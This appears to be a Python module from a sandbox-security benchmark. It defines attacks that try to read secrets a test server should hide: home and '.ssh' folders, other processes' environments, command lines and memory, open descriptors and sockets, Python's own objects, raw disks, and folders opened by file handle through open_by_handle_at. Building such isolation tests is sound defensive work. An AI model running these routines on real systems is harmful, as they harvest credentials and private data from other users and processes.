"""Attacks that read: files, memory and environments that hold secrets."""

from __future__ import annotations

from benchmarks.attacks.attack import Attack
from benchmarks.attacks.sight import holds_device

_BY_HANDLE = """
# The file system's own number of the root folder, and of anything else, needs no path.
AT_FDCWD = -100
for start in ("/usr", "/tmp", os.getcwd(), "/etc/ld.so.cache", sys.prefix, WORLD["home"]):
    with contextlib.suppress(OSError):
        place = os.open(start, os.O_RDONLY)
        for path in (WORLD["home"], WORLD["state"], None):
            handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
            number = ctypes.c_int(0)
            if path is None:
                handle.raw = struct.pack("IiII", 8, 1, 2, 0) + bytes(len(handle) - 16)
            else:
                try:
                    call("name_to_handle_at", AT_FDCWD, path.encode(), handle,
                         ctypes.byref(number), 0)
                except OSError as error:
                    print("failed:", error)
                    continue
            try:
                folder = call("open_by_handle_at", place, handle, os.O_RDONLY)
            except OSError as error:
                print("failed:", error)
                continue
            for name in os.listdir(folder)[:100]:
                with contextlib.suppress(OSError):
                    leak(os.read(os.open(name, os.O_RDONLY, dir_fd=folder), 4096), name)
            for file in WORLD["files"]:
                with contextlib.suppress(OSError):
                    leak(os.read(os.open(file[1:], os.O_RDONLY, dir_fd=folder), 4096), file)
"""

READING = (
    Attack(
        "home-folder",
        "reads the home folder of whoever started the server",
        "read_all_below(WORLD['home'], os.path.dirname(WORLD['home']) + '/.ssh')\n"
        "if not BARE:\n"
        "    read_all_below('/root', '/home')\n"
        "leak(Path(WORLD['files'][0]).read_bytes())",
    ),
    Attack(
        "state-file",
        "reads the server's state folder",
        "read_all_below(WORLD['state'])\nleak(Path(WORLD['files'][1]).read_bytes())",
        place="construct",
    ),
    Attack(
        "workspace",
        "reads the folder that the client works in",
        "read_all_below(WORLD['workspace'])\nleak(Path(WORLD['files'][2]).read_bytes())",
        place="forward",
    ),
    Attack(
        "everything-readable",
        "walks through all folders for files that are new or small and have the secret's shape",
        "roots = PLACES if BARE else ['/etc', '/tmp', '/var', '/run', '/home', '/root', '/dev/shm',\n"
        "    '/srv', '/opt', '/mnt', '/media', '/work', *PLACES, *PLACES]\n"
        "read_all_below(*roots, most=40_000)",
    ),
    Attack(
        "other-roots",
        "reads through the roots and working folders of other processes and its own open folders",
        "for pid in [*others(), 'self', 'thread-self', 1]:\n"
        "    for way in ('root', 'cwd', 'cwd/..', 'cwd/../..'):\n"
        "        for file in WORLD['files']:\n"
        "            with contextlib.suppress(OSError):\n"
        "                leak(Path(f'/proc/{pid}/{way}{file}').read_bytes(), way)\n"
        "for up in range(1, 12):\n"
        "    for file in WORLD['files']:\n"
        "        with contextlib.suppress(OSError):\n"
        "            leak(Path('../' * up + file[1:]).read_bytes(), 'up')",
    ),
    Attack(
        "links-to-files",
        "makes symbolic and hard links to secret files and reads through them",
        "for number, file in enumerate(WORLD['files']):\n"
        "    attempt(os.symlink, file, f'soft{number}')\n"
        "    attempt(os.link, file, f'hard{number}')\n"
        "    for name in (f'soft{number}', f'hard{number}'):\n"
        "        with contextlib.suppress(OSError):\n"
        "            leak(Path(name).read_bytes(), name)",
    ),
    Attack(
        "files-of-other-workers",
        "reads and writes in the folders of the referee, of other candidates and of the zygote",
        "for folder in glob.glob(WORLD['temp'] + '/egg-*') + glob.glob('/tmp/egg-*'):\n"
        "    read_all_below(folder)\n"
        "for pid in REFEREES:\n"
        "    attempt(plant, f'/proc/{pid}/cwd/{LABEL}')\n"
        "    for name in ('cwd', 'root/tmp/egg'):\n"
        "        read_all_below(f'/proc/{pid}/{name}', most=50)",
    ),
    Attack(
        "own-memory",
        "searches its own memory for what the zygote knew when it forked",
        "attempt(scan_memory, 'self')\nif not BARE:\n    attempt(scan_memory, os.getppid())",
    ),
    Attack(
        "objects-of-python",
        "searches every object, module and frame that Python still knows",
        "for thing in gc.get_objects():\n"
        "    with contextlib.suppress(BaseException):\n"
        "        if isinstance(thing, dict):\n"
        "            leak(' '.join(v for v in thing.values() if type(v) is str).encode())\n"
        "        elif isinstance(thing, (tuple, list)):\n"
        "            leak(' '.join(v for v in thing if type(v) is str).encode())\n"
        "frame = sys._getframe()\n"
        "while frame:\n"
        "    leak(repr({**frame.f_locals}).encode(errors='replace')[:1 << 20])\n"
        "    frame = frame.f_back",
        place="forward",
    ),
    Attack(
        "every-descriptor-read",
        "reads and maps every descriptor, and takes descriptors out of every socket",
        "for fd in range(0, 4096):\n"
        "    with contextlib.suppress(OSError):\n"
        "        leak(os.pread(fd, 1 << 20, 0), f'descriptor {fd}')\n"
        "    with contextlib.suppress(OSError, ValueError):\n"
        "        if stat.S_ISREG(os.fstat(fd).st_mode):\n"
        "            with mmap.mmap(fd, 0, prot=mmap.PROT_READ) as mapped:\n"
        "                leak(mapped[:], f'map of {fd}')\n"
        "    with contextlib.suppress(OSError):\n"
        "        if stat.S_ISSOCK(os.fstat(fd).st_mode):\n"
        "            sock = socket.socket(fileno=os.dup(fd))\n"
        "            data, more, *_ = sock.recvmsg(4096, 4096, socket.MSG_PEEK | socket.MSG_DONTWAIT)\n"
        "            leak(data, 'socket')\n"
        "            for _, _, found in more:\n"
        "                for one in array.array('i', found[: len(found) // 4 * 4]):\n"
        "                    with contextlib.suppress(OSError):\n"
        "                        leak(os.pread(one, 4096, 0), 'received')\n"
        "    for pid in others():\n"
        "        with contextlib.suppress(OSError):\n"
        "            if fd < 64:\n"
        "                leak(os.pread(os.open(f'/proc/{pid}/fd/{fd}', 0x800), 1 << 20, 0), 'theirs')",
        place="forward",
    ),
    Attack(
        "environments",
        "reads its own environment and that of every process in sight",
        "leak(repr(dict(os.environ)).encode())\n"
        "leak(Path('/proc/self/environ').read_bytes())\n"
        "for pid in others():\n"
        "    with contextlib.suppress(OSError):\n"
        "        leak(Path(f'/proc/{pid}/environ').read_bytes(), f'environment of {pid}')",
    ),
    Attack(
        "arguments",
        "reads the command line of every process in sight",
        "for pid in others():\n"
        "    with contextlib.suppress(OSError):\n"
        "        leak(Path(f'/proc/{pid}/cmdline').read_bytes(), f'arguments of {pid}')",
    ),
    Attack(
        "memory-of-others",
        "reads /proc/PID/maps and /proc/PID/mem of server, zygote, referee and keeper",
        "for pid in [*others(), os.getppid()]:\n    attempt(scan_memory, pid)",
    ),
    Attack(
        "file-handles",
        "opens folders by their number in the file system instead of by a path",
        _BY_HANDLE,
    ),
    Attack(
        "raw-disk",
        "opens the disks themselves",
        "for path in glob.glob('/dev/[vsxn][dv]*') + glob.glob('/dev/loop[0-9]*') + "
        "glob.glob('/dev/dm-*'):\n"
        "    hold(path, os.O_RDONLY)",
        during=holds_device,
    ),
)
